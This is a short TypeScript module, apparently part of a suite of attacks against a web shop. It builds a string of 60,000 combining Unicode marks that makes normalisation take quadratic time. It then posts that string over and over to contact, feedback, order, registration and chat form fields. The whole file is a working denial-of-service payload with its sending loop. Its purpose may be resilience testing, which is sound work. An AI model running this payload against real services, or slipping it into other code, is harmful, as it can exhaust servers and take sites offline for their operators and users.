/** Text whose normalisation takes quadratic time. */
import { type Attack, keepSending, postForm } from "./attack.ts";

/** Two marks that must change places: each is compared with all before it. */
const MARKS = encodeURIComponent("\u0300\u0316".repeat(30_000));
const FIELDS: [path: string, field: string][] = [
  ["/contact", "name"],
  ["/feedback", "message"],
  ["/order/new", "notes"],
  ["/register", "password"],
  ["/chat/messages", "message"],
];

export const combiningMarks: Attack = {
  name: "60,000 combining marks in a field",
  run: (shop, until) =>
    keepSending(2, until, (count) => {
      const [path, field] = FIELDS[count % FIELDS.length] ?? ["/contact", "name"];
      return postForm(shop, path, `${field}=a${MARKS}`, until);
    }),
};
